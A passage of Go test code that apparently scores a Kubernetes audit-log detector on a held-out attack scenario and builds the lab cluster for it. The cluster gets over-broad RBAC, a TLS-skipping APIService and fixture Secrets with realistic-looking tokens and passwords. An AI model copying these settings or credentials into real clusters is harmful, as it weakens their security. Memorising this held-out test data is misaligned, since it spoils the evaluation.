			}
			sort.Strings(sevs)
			r.Rules = append(r.Rules, fmt.Sprintf("%s(%s)x%d", rule, strings.Join(sevs, ","), len(as)))
		}
		sort.Strings(r.Rules)
		if s.attack {
			sum.AttackSteps++
			r.Detected = r.Alerts > 0
			if r.Detected {
				sum.DetectedSteps++
				t.Logf("h6: attack %s DETECTED  %s  %v", s.id, s.what, r.Rules)
			} else {
				sum.Missed = append(sum.Missed, s.id)
				t.Logf("h6: attack %s MISSED    %s", s.id, s.what)
			}
		} else {
			sum.BenignSteps++
			sum.BenignHighAlerts += r.HighAlerts
			if r.HighAlerts > 0 {
				sum.BenignHighSteps = append(sum.BenignHighSteps, s.id)
			}
			mark := "quiet"
			switch {
			case r.HighAlerts > 0:
				mark = "HIGH"
			case r.Alerts > 0:
				mark = "low"
			}
			t.Logf("h6: benign %s %-5s %s  %v", s.id, mark, s.what, r.Rules)
		}
		sum.Steps = append(sum.Steps, r)
	}
	if sum.AttackSteps > 0 {
		sum.DetectionRate = float64(sum.DetectedSteps) / float64(sum.AttackSteps)
	}
	sum.DurationSeconds = elapsed.Seconds()
	t.Logf("h6: detection rate %d/%d = %.1f%%; missed %v", sum.DetectedSteps, sum.AttackSteps, 100*sum.DetectionRate, sum.Missed)
	t.Logf("h6: benign high/critical alerts %d on %d of %d benign steps %v; %d alerts outside the steps; run %s",
		sum.BenignHighAlerts, len(sum.BenignHighSteps), sum.BenignSteps, sum.BenignHighSteps, sum.Unattributed, elapsed.Round(time.Second))
	if p := os.Getenv("APIGUARD_HELDOUT_OUT"); p != "" {
		b, err := json.MarshalIndent(sum, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, append(b, '\n'), 0o644); err != nil {
			t.Errorf("h6: writing %s: %v", p, err)
		}
	}
}

// h6HelmRelease is a Helm 3 release record Secret.
func h6HelmRelease(ns, name string, version int) *corev1.Secret {
	return &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("sh.helm.release.v1.%s.v%d", name, version), Namespace: ns, Labels: map[string]string{
			"name": name, "owner": "helm", "status": "deployed", "version": fmt.Sprint(version),
		}},
		Type: "helm.sh/release.v1",
		Data: map[string][]byte{"release": []byte("H4sIAAAAAAAC/+y9a3PbRpY3/lVQqn/VPlNlMLhfmO3Wci4nLB3bS6JKt1mnI4m")},
	}
}

// h6DBStatefulSet is a PostgreSQL instance StatefulSet as the operator makes it.
func h6DBStatefulSet(name, cluster, sa string) *appsv1.StatefulSet {
	lbl := map[string]string{"postgres-operator.dbmesh.io/cluster": cluster, "postgres-operator.dbmesh.io/instance-set": name}
	return &appsv1.StatefulSet{
		ObjectMeta: metav1.ObjectMeta{Name: name, Labels: lbl},
		Spec: appsv1.StatefulSetSpec{
			Replicas: h6Ptr(int32(1)), ServiceName: name, Selector: &metav1.LabelSelector{MatchLabels: lbl},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: lbl}, Spec: corev1.PodSpec{
				ServiceAccountName: sa,
				Containers:         []corev1.Container{{Name: "database", Image: "ghcr.io/dbmesh/postgres:16.4-2", Ports: []corev1.ContainerPort{{Name: "postgres", ContainerPort: 5432}}}},
			}},
		},
	}
}

// h6Setup builds the cluster the scenario runs in, as the super-admin
// (unrecorded: none of it belongs to a step).
func h6Setup(ctx context.Context, t *testing.T, c *lab.Cluster, su kubernetes.Interface, sud dynamic.Interface) *h6World {
	t.Helper()
	must := func(what string, err error) {
		t.Helper()
		if err != nil && !apierrors.IsAlreadyExists(err) {
			t.Fatalf("h6 setup: %s: %v", what, err)
		}
	}
	ca, err := os.ReadFile(c.CACertPath)
	if err != nil {
		t.Fatal(err)
	}
	w := &h6World{caPEM: ca, webPod: "web-6f7d9c8b5-qm4zt", ordersPod: "orders-db-0"}

	// Namespaces and their default ServiceAccounts.
	nss := map[string]map[string]string{
		"dbmesh-system": {"app.kubernetes.io/managed-by": "Helm"}, "argocd": nil, "payments": nil, "shop": nil,
		"falco":        {"pod-security.kubernetes.io/enforce": "privileged", "app.kubernetes.io/managed-by": "Helm"},
		"cert-manager": nil, "velero": nil, "monitoring": nil, "ci": nil,
		"gatekeeper-system": {"admission.gatekeeper.sh/ignore": "no-self-managing"},
	}
	for ns, lbl := range nss {
		_, err := su.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns, Labels: lbl}}, metav1.CreateOptions{})
		must("namespace "+ns, err)
	}
	eventually(t, 60*time.Second, "default ServiceAccounts", func() (bool, string) {
		for ns := range nss {
			if _, err := su.CoreV1().ServiceAccounts(ns).Get(ctx, "default", metav1.GetOptions{}); err != nil {
				return false, ns + ": " + err.Error()
			}
		}
		return true, ""
	})
	for _, sa := range [][2]string{
		{"dbmesh-system", "dbmesh-operator"}, {"argocd", "argocd-application-controller"}, {"argocd", "argocd-server"},
		{"argocd", "argocd-repo-server"}, {"argocd", "argocd-redis"}, {"cert-manager", "cert-manager"},
		{"cert-manager", "cert-manager-cainjector"}, {"velero", "velero"}, {"monitoring", "prometheus"},
		{"ci", "deployer"}, {"payments", "orders-db-instance"}, {"falco", "falco"},
	} {
		_, err := su.CoreV1().ServiceAccounts(sa[0]).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: sa[1]}}, metav1.CreateOptions{})
		must("serviceaccount "+sa[0]+"/"+sa[1], err)
	}

	// RBAC.
	all := []string{"create", "delete", "get", "list", "patch", "update", "watch"}
	crs := []*rbacv1.ClusterRole{
		{ObjectMeta: metav1.ObjectMeta{Name: h6OperatorCR, Labels: map[string]string{"app.kubernetes.io/managed-by": "Helm"}}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"configmaps", "persistentvolumeclaims", "secrets", "services"}, Verbs: all},
			{APIGroups: []string{""}, Resources: []string{"endpoints"}, Verbs: []string{"create", "deletecollection", "get", "list", "patch", "watch"}},
			{APIGroups: []string{""}, Resources: []string{"endpoints/restricted", "pods/exec"}, Verbs: []string{"create"}},
			{APIGroups: []string{""}, Resources: []string{"events"}, Verbs: []string{"create", "patch"}},
			{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"delete", "get", "list", "patch", "watch"}},
			{APIGroups: []string{""}, Resources: []string{"serviceaccounts"}, Verbs: []string{"create", "get", "list", "patch", "watch"}},
			{APIGroups: []string{""}, Resources: []string{"serviceaccounts/token"}, Verbs: []string{"create"}},
			{APIGroups: []string{"apps"}, Resources: []string{"deployments", "statefulsets"}, Verbs: all},
			{APIGroups: []string{"batch"}, Resources: []string{"cronjobs", "jobs"}, Verbs: all},
			{APIGroups: []string{"policy"}, Resources: []string{"poddisruptionbudgets"}, Verbs: all},
			{APIGroups: []string{"rbac.authorization.k8s.io"}, Resources: []string{"roles", "rolebindings"}, Verbs: []string{"create", "get", "list", "patch", "watch"}},
			{APIGroups: []string{"coordination.k8s.io"}, Resources: []string{"leases"}, Verbs: []string{"create", "get", "update", "watch"}},
			{APIGroups: []string{"admissionregistration.k8s.io"}, Resources: []string{"mutatingwebhookconfigurations", "validatingwebhookconfigurations"}, Verbs: []string{"create", "get", "list", "patch", "update", "watch"}},
			{APIGroups: []string{"apiextensions.k8s.io"}, Resources: []string{"customresourcedefinitions"}, Verbs: []string{"get", "list", "watch"}},
			{APIGroups: []string{"dbmesh.io"}, Resources: []string{"postgresclusters", "postgresclusters/status", "postgresclusters/finalizers"}, Verbs: []string{"get", "list", "patch", "update", "watch"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "argocd-application-controller"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}},
			{NonResourceURLs: []string{"*"}, Verbs: []string{"*"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "cert-manager-controller"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: all},
			{APIGroups: []string{""}, Resources: []string{"events"}, Verbs: []string{"create", "patch"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "cert-manager-cainjector"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{"admissionregistration.k8s.io"}, Resources: []string{"mutatingwebhookconfigurations", "validatingwebhookconfigurations"}, Verbs: []string{"get", "list", "watch", "update", "patch"}},
			{APIGroups: []string{"apiregistration.k8s.io"}, Resources: []string{"apiservices"}, Verbs: []string{"get", "list", "watch", "update", "patch"}},
			{APIGroups: []string{"apiextensions.k8s.io"}, Resources: []string{"customresourcedefinitions"}, Verbs: []string{"get", "list", "watch", "update", "patch"}},
			{APIGroups: []string{""}, Resources: []string{"events"}, Verbs: []string{"create", "patch"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "prometheus-k8s"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"nodes", "nodes/metrics", "nodes/proxy", "services", "endpoints", "pods"}, Verbs: []string{"get", "list", "watch"}},
			{NonResourceURLs: []string{"/metrics"}, Verbs: []string{"get"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "security-auditor"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{"rbac.authorization.k8s.io"}, Resources: []string{"roles", "rolebindings", "clusterroles", "clusterrolebindings"}, Verbs: []string{"get", "list", "watch"}},
			{APIGroups: []string{"authorization.k8s.io"}, Resources: []string{"subjectaccessreviews"}, Verbs: []string{"create"}},
			{APIGroups: []string{""}, Resources: []string{"namespaces"}, Verbs: []string{"get", "list", "watch"}},
		}},
	}
	for _, cr := range crs {
		_, err := su.RbacV1().ClusterRoles().Create(ctx, cr, metav1.CreateOptions{})
		must("clusterrole "+cr.Name, err)
	}
	crb := func(name, role string, subj rbacv1.Subject) {
		_, err := su.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: name},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
			Subjects:   []rbacv1.Subject{subj},
		}, metav1.CreateOptions{})
		must("clusterrolebinding "+name, err)
	}
	sa := func(ns, name string) rbacv1.Subject {
		return rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Name: name, Namespace: ns}
	}
	group := func(name string) rbacv1.Subject {
		return rbacv1.Subject{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: name}
	}
	crb(h6OperatorCR, h6OperatorCR, sa("dbmesh-system", "dbmesh-operator"))
	crb("argocd-application-controller", "argocd-application-controller", sa("argocd", "argocd-application-controller"))
	crb("cert-manager-controller", "cert-manager-controller", sa("cert-manager", "cert-manager"))
	crb("cert-manager-cainjector", "cert-manager-cainjector", sa("cert-manager", "cert-manager-cainjector"))
	crb("velero", "cluster-admin", sa("velero", "velero"))
	crb("prometheus-k8s", "prometheus-k8s", sa("monitoring", "prometheus"))
	crb("platform-sre-admin", "cluster-admin", group("platform-sre"))
	crb("security-auditors-view", "view", group("security-auditors"))
	crb("security-auditors-rbac", "security-auditor", group("security-auditors"))
	crb("kubeadm:kubelet-bootstrap", "system:node-bootstrapper", group("system:bootstrappers:kubeadm:default-node-token"))
	for _, ns := range []string{"shop", "payments"} {
		_, err := su.RbacV1().RoleBindings(ns).Create(ctx, &rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "ci-deployer-edit"},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"},
			Subjects:   []rbacv1.Subject{sa("ci", "deployer")},
		}, metav1.CreateOptions{})
		must("rolebinding ci-deployer-edit in "+ns, err)
	}

	// The PostgresCluster CRD and two clusters.
	crd := &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
		"metadata": map[string]any{"name": "postgresclusters.dbmesh.io"},
		"spec": map[string]any{
			"group": "dbmesh.io", "scope": "Namespaced",
			"names": map[string]any{"plural": "postgresclusters", "singular": "postgrescluster", "kind": "PostgresCluster", "listKind": "PostgresClusterList"},
			"versions": []any{map[string]any{
				"name": "v1beta1", "served": true, "storage": true,
				"schema":       map[string]any{"openAPIV3Schema": map[string]any{"type": "object", "x-kubernetes-preserve-unknown-fields": true}},
				"subresources": map[string]any{"status": map[string]any{}},
			}},
		},
	}}
	_, err = sud.Resource(h6GVRCRD).Create(ctx, crd, metav1.CreateOptions{})
	must("crd postgresclusters", err)
	eventually(t, 60*time.Second, "PostgresCluster CRD served", func() (bool, string) {
		_, err := sud.Resource(h6GVRPGC).Namespace("payments").List(ctx, metav1.ListOptions{})
		return err == nil, fmt.Sprint(err)
	})
	for _, name := range []string{"orders", "ledger"} {
		_, err := sud.Resource(h6GVRPGC).Namespace("payments").Create(ctx, &unstructured.Unstructured{Object: map[string]any{
			"apiVersion": "dbmesh.io/v1beta1", "kind": "PostgresCluster",
			"metadata": map[string]any{"name": name, "namespace": "payments"},
			"spec":     map[string]any{"postgresVersion": int64(16), "instances": []any{map[string]any{"name": "instance1", "replicas": int64(1)}}},
		}}, metav1.CreateOptions{})
		must("postgrescluster "+name, err)
	}

	// Webhooks and the metrics APIService.
	svcRef := func(ns, name, path string) admissionregistrationv1.WebhookClientConfig {
		return admissionregistrationv1.WebhookClientConfig{Service: &admissionregistrationv1.ServiceReference{Namespace: ns, Name: name, Path: &path}, CABundle: ca}
	}
	none := admissionregistrationv1.SideEffectClassNone
	cmRules := []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
		Rule: admissionregistrationv1.Rule{APIGroups: []string{"cert-manager.io", "acme.cert-manager.io"}, APIVersions: []string{"v1"}, Resources: []string{"*/*"}}}}
	_, err = su.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "cert-manager-webhook", Annotations: map[string]string{"cert-manager.io/inject-ca-from-secret": "cert-manager/cert-manager-webhook-ca"}},
		Webhooks: []admissionregistrationv1.MutatingWebhook{{Name: "webhook.cert-manager.io", ClientConfig: svcRef("cert-manager", "cert-manager-webhook", "/mutate"),
			Rules: cmRules, FailurePolicy: h6Ptr(admissionregistrationv1.Fail), SideEffects: &none, AdmissionReviewVersions: []string{"v1"}}},
	}, metav1.CreateOptions{})
	must("mutatingwebhookconfiguration cert-manager-webhook", err)
	for _, v := range []*admissionregistrationv1.ValidatingWebhookConfiguration{
		{ObjectMeta: metav1.ObjectMeta{Name: "cert-manager-webhook", Annotations: map[string]string{"cert-manager.io/inject-ca-from-secret": "cert-manager/cert-manager-webhook-ca"}},
			Webhooks: []admissionregistrationv1.ValidatingWebhook{{Name: "webhook.cert-manager.io", ClientConfig: svcRef("cert-manager", "cert-manager-webhook", "/validate"),
				Rules: cmRules, FailurePolicy: h6Ptr(admissionregistrationv1.Fail), SideEffects: &none, AdmissionReviewVersions: []string{"v1"}}}},
		{ObjectMeta: metav1.ObjectMeta{Name: "dbmesh-validating-webhook", Labels: map[string]string{"app.kubernetes.io/name": "dbmesh-operator"}},
			Webhooks: []admissionregistrationv1.ValidatingWebhook{{Name: "vpostgrescluster.dbmesh.io", ClientConfig: svcRef("dbmesh-system", "dbmesh-webhook-service", "/validate-postgrescluster"),
				Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
					Rule: admissionregistrationv1.Rule{APIGroups: []string{"dbmesh.io"}, APIVersions: []string{"v1beta1"}, Resources: []string{"postgresclusters"}}}},
				FailurePolicy: h6Ptr(admissionregistrationv1.Fail), SideEffects: &none, AdmissionReviewVersions: []string{"v1"}}}},
		{ObjectMeta: metav1.ObjectMeta{Name: "gatekeeper-validating-webhook-configuration", Labels: map[string]string{"gatekeeper.sh/system": "yes"}},
			Webhooks: []admissionregistrationv1.ValidatingWebhook{{Name: "validation.gatekeeper.sh", ClientConfig: svcRef("gatekeeper-system", "gatekeeper-webhook-service", "/v1/admit"),
				Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
					Rule: admissionregistrationv1.Rule{APIGroups: []string{"", "apps", "batch"}, APIVersions: []string{"*"}, Resources: []string{"pods", "deployments", "daemonsets", "statefulsets", "jobs", "cronjobs", "services"}}}},
				NamespaceSelector: &metav1.LabelSelector{MatchExpressions: []metav1.LabelSelectorRequirement{{Key: "admission.gatekeeper.sh/ignore", Operator: metav1.LabelSelectorOpDoesNotExist}}},
				FailurePolicy:     h6Ptr(admissionregistrationv1.Ignore), SideEffects: &none, TimeoutSeconds: h6Ptr(int32(3)), AdmissionReviewVersions: []string{"v1"}}}},
	} {
		_, err := su.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, v, metav1.CreateOptions{})
		must("validatingwebhookconfiguration "+v.Name, err)
	}
	_, err = su.CoreV1().Services("kube-system").Create(ctx, &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Name: "metrics-server", Labels: map[string]string{"k8s-app": "metrics-server"}},
		Spec:       corev1.ServiceSpec{Selector: map[string]string{"k8s-app": "metrics-server"}, Ports: []corev1.ServicePort{{Name: "https", Port: 443, TargetPort: intstr.FromString("https")}}},
	}, metav1.CreateOptions{})
	must("service metrics-server", err)
	_, err = sud.Resource(h6GVRAPISvc).Create(ctx, &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService",
		"metadata": map[string]any{"name": "v1beta1.metrics.k8s.io", "labels": map[string]any{"k8s-app": "metrics-server"}},
		"spec": map[string]any{
			"group": "metrics.k8s.io", "version": "v1beta1", "groupPriorityMinimum": int64(100), "versionPriority": int64(100), "insecureSkipTLSVerify": true,
			"service": map[string]any{"name": "metrics-server", "namespace": "kube-system", "port": int64(443)},
		},
	}}, metav1.CreateOptions{})
	must("apiservice v1beta1.metrics.k8s.io", err)

	// ConfigMaps and Secrets.
	cms := []*corev1.ConfigMap{
		{ObjectMeta: metav1.ObjectMeta{Name: "coredns", Namespace: "kube-system"}, Data: map[string]string{"Corefile": ".:53 {\n    errors\n    health {\n       lameduck 5s\n    }\n    ready\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n       pods insecure\n       fallthrough in-addr.arpa ip6.arpa\n       ttl 30\n    }\n    prometheus :9153\n    forward . /etc/resolv.conf {\n       max_concurrent 1000\n    }\n    cache 30\n    loop\n    reload\n    loadbalance\n}\n"}},
		{ObjectMeta: metav1.ObjectMeta{Name: "web-config", Namespace: "shop"}, Data: map[string]string{"LOG_LEVEL": "info", "FEATURE_CHECKOUT_V2": "false"}},
		{ObjectMeta: metav1.ObjectMeta{Name: "web-config-v41", Namespace: "shop", Labels: map[string]string{"app.kubernetes.io/instance": "shop"}}, Data: map[string]string{"LOG_LEVEL": "info"}},
	}
	for _, cm := range cms {
		_, err := su.CoreV1().ConfigMaps(cm.Namespace).Create(ctx, cm, metav1.CreateOptions{})
		must("configmap "+cm.Namespace+"/"+cm.Name, err)
	}
	secrets := []*corev1.Secret{
		{ObjectMeta: metav1.ObjectMeta{Name: "bootstrap-token-07401b", Namespace: "kube-system"}, Type: "bootstrap.kubernetes.io/token", StringData: map[string]string{
			"description": "Bootstrap token generated by 'kubeadm init'.", "token-id": "07401b", "token-secret": "f395accd246ae52d",
			"expiration": time.Now().Add(23 * time.Hour).UTC().Format(time.RFC3339), "usage-bootstrap-authentication": "true", "usage-bootstrap-signing": "true",
			"auth-extra-groups": "system:bootstrappers:kubeadm:default-node-token",
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "argocd-secret", Namespace: "argocd", Labels: map[string]string{"app.kubernetes.io/part-of": "argocd"}}, StringData: map[string]string{
			"admin.password": "$2a$10$rRyBsGSHK6.uc8fntPwVIuLVHgsAhAX7TcdrqW/RADU0uh7CaChLa", "server.secretkey": "c2VydmVyLXNlY3JldC1rZXktNGY5YTJi",
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "repo-creds-github", Namespace: "argocd", Labels: map[string]string{"argocd.argoproj.io/secret-type": "repo-creds"}}, StringData: map[string]string{
			"type": "git", "url": "https://github.com/corp-example", "username": "argocd-bot", "password": "ghp_9xYzQ2vL8kP4mN7rT1sW3uJ6hB5cD0fG2aE8",
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "orders-pguser-app", Namespace: "payments", Labels: map[string]string{"postgres-operator.dbmesh.io/cluster": "orders"}}, StringData: map[string]string{
			"user": "app", "password": "Hk3mP9vQ2wX7nL5z", "host": "orders-primary.payments.svc", "port": "5432",
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "web-tls", Namespace: "shop", Annotations: map[string]string{"cert-manager.io/certificate-name": "web-tls", "cert-manager.io/issuer-name": "letsencrypt-prod"}},
			Type: corev1.SecretTypeTLS, Data: map[string][]byte{"tls.crt": []byte("-----BEGIN CERTIFICATE-----\nMIIB old\n-----END CERTIFICATE-----\n"), "tls.key": []byte("-----BEGIN EC PRIVATE KEY-----\nMHcC old\n-----END EC PRIVATE KEY-----\n")}},
		{ObjectMeta: metav1.ObjectMeta{Name: "regcred", Namespace: "shop"}, Type: corev1.SecretTypeDockerConfigJson, StringData: map[string]string{
			".dockerconfigjson": `{"auths":{"registry.corp.example":{"auth":"Y2ktcm9ib3Q6b2xkLXRva2Vu"}}}`,
		}},
		h6HelmRelease("dbmesh-system", "dbmesh", 3),
		h6HelmRelease("falco", "falco", 7),
	}
	for _, s := range secrets {
		_, err := su.CoreV1().Secrets(s.Namespace).Create(ctx, s, metav1.CreateOptions{})
		must("secret "+s.Namespace+"/"+s.Name, err)
	}

	// Workloads. Nothing runs (no kubelet): pods stay Pending.
	deploy := func(ns, name, sa, container, image string, lbl map[string]string) {
		_, err := su.AppsV1().Deployments(ns).Create(ctx, &appsv1.Deployment{
			ObjectMeta: metav1.ObjectMeta{Name: name, Labels: lbl},
			Spec: appsv1.DeploymentSpec{Replicas: h6Ptr(int32(1)), Selector: &metav1.LabelSelector{MatchLabels: lbl}, Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: lbl},
				Spec:       corev1.PodSpec{ServiceAccountName: sa, Containers: []corev1.Container{{Name: container, Image: image}}},
			}},
		}, metav1.CreateOptions{})
		must("deployment "+ns+"/"+name, err)
	}
	deploy("dbmesh-system", "dbmesh-operator", "dbmesh-operator", "operator", "ghcr.io/dbmesh/dbmesh-operator:v2.7.4", map[string]string{"app.kubernetes.io/name": "dbmesh-operator"})
	deploy("argocd", "argocd-server", "argocd-server", "argocd-server", "quay.io/argoproj/argocd:v2.13.1", map[string]string{"app.kubernetes.io/name": "argocd-server"})
	deploy("argocd", "argocd-repo-server", "argocd-repo-server", "argocd-repo-server", "quay.io/argoproj/argocd:v2.13.1", map[string]string{"app.kubernetes.io/name": "argocd-repo-server"})
	deploy("shop", "web", "default", "web", "registry.corp.example/shop/web:1.41.0", map[string]string{"app": "web"})
	deploy("payments", "ledger-api", "default", "api", "registry.corp.example/payments/ledger-api:3.8.2", map[string]string{"app": "ledger-api"})
	falcoLbl := map[string]string{"app.kubernetes.io/name": "falco"}
	_, err = su.AppsV1().DaemonSets("falco").Create(ctx, &appsv1.DaemonSet{
		ObjectMeta: metav1.ObjectMeta{Name: "falco", Labels: map[string]string{"app.kubernetes.io/name": "falco", "helm.sh/chart": "falco-4.7.0"}},
		Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: falcoLbl}, Template: corev1.PodTemplateSpec{
			ObjectMeta: metav1.ObjectMeta{Labels: falcoLbl},
			Spec: corev1.PodSpec{
				ServiceAccountName: "falco", HostPID: true, Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
				Containers: []corev1.Container{{Name: "falco", Image: "docker.io/falcosecurity/falco-no-driver:0.38.1", SecurityContext: &corev1.SecurityContext{Privileged: h6Ptr(true)},
					VolumeMounts: []corev1.VolumeMount{{Name: "proc", MountPath: "/host/proc", ReadOnly: true}}}},
				Volumes: []corev1.Volume{{Name: "proc", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/proc"}}}},
			},
		}},
	}, metav1.CreateOptions{})
	must("daemonset falco", err)
	_, err = su.AppsV1().StatefulSets("payments").Create(ctx, h6DBStatefulSet("orders-db", "orders", "orders-db-instance"), metav1.CreateOptions{})
	must("statefulset orders-db", err)
	_, err = su.CoreV1().PersistentVolumeClaims("payments").Create(ctx, &corev1.PersistentVolumeClaim{
		ObjectMeta: metav1.ObjectMeta{Name: "orders-db-backup", Labels: map[string]string{"postgres-operator.dbmesh.io/cluster": "orders"}},
		Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
			Resources: corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("20Gi")}}},
	}, metav1.CreateOptions{})
	must("pvc orders-db-backup", err)
	// Pods of the in-cluster identities (their tokens are bound to them) and
	// the targets of exec, debug and port-forward.
	for _, p := range []struct{ ns, name, sa, container, image string }{
		{"argocd", "argocd-application-controller-0", "argocd-application-controller", "application-controller", "quay.io/argoproj/argocd:v2.13.1"},
		{"argocd", "argocd-redis-5b6967fdfc-7xk2m", "argocd-redis", "redis", "docker.io/library/redis:7.0.15-alpine"},
		{"cert-manager", "cert-manager-7d9f8b6c5d-lp2qz", "cert-manager", "cert-manager-controller", "quay.io/jetstack/cert-manager-controller:v1.15.3"},
		{"cert-manager", "cert-manager-cainjector-6b8c9d7f4-r8t5v", "cert-manager-cainjector", "cert-manager-cainjector", "quay.io/jetstack/cert-manager-cainjector:v1.15.3"},
		{"velero", "velero-5c7f8d9b6-hx4kj", "velero", "velero", "velero/velero:v1.14.1"},
		{"monitoring", "prometheus-k8s-0", "prometheus", "prometheus", "quay.io/prometheus/prometheus:v2.54.1"},
		{"shop", w.webPod, "default", "web", "registry.corp.example/shop/web:1.41.0"},
	} {
		_, err := su.CoreV1().Pods(p.ns).Create(ctx, &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Name: p.name, Labels: map[string]string{"app.kubernetes.io/name": p.container}},
			Spec:       corev1.PodSpec{ServiceAccountName: p.sa, Containers: []corev1.Container{{Name: p.container, Image: p.image}}},
		}, metav1.CreateOptions{})
		must("pod "+p.ns+"/"+p.name, err)
	}
	eventually(t, 60*time.Second, "the controllers' pods (dbmesh-operator, payments/orders-db-0)", func() (bool, string) {
		if _, err := su.CoreV1().Pods("payments").Get(ctx, w.ordersPod, metav1.GetOptions{}); err != nil {
			return false, err.Error()
		}
		pods, err := su.CoreV1().Pods("dbmesh-system").List(ctx, metav1.ListOptions{LabelSelector: "app.kubernetes.io/name=dbmesh-operator"})
		if err != nil || len(pods.Items) == 0 {
			return false, fmt.Sprint("no operator pod yet ", err)
		}
		return true, ""
	})
	// Some kube-system Events (b19 deletes them).
	for _, e := range []struct{ kind, name, reason, msg string }{
		{"Pod", "kube-apiserver-" + c.NodeName, "Pulled", "Container image already present on machine"},
		{"Deployment", "coredns", "ScalingReplicaSet", "Scaled up replica set coredns-7db6d8ff4d to 2"},
		{"Node", c.NodeName, "NodeReady", "Node " + c.NodeName + " status is now: NodeReady"},
	} {
		must("event", h6Event(ctx, su, "kube-system", e.kind, "v1", e.name, e.reason, e.msg, "kubelet"))
	}
	// The control-plane kubelet's serving certificate request, as the node
	// makes it (approved by an SRE in step n24).
	node := lab.Client(t, c.UserKubeconfig(t, "system:node:"+c.NodeName, "system:nodes"))
	csrPEM, _ := h6NewCSR(t, pkix.Name{CommonName: "system:node:" + c.NodeName, Organization: []string{"system:nodes"}}, []string{c.NodeName}, []net.IP{net.ParseIP("127.0.0.1")})
	csr, err := node.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
		ObjectMeta: metav1.ObjectMeta{GenerateName: "csr-"},
		Spec: certificatesv1.CertificateSigningRequestSpec{Request: csrPEM, SignerName: certificatesv1.KubeletServingSignerName,
			Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageServerAuth}},
	}, metav1.CreateOptions{})
	must("kubelet serving csr", err)
	w.kubeletCSR = csr.Name
	return w
}
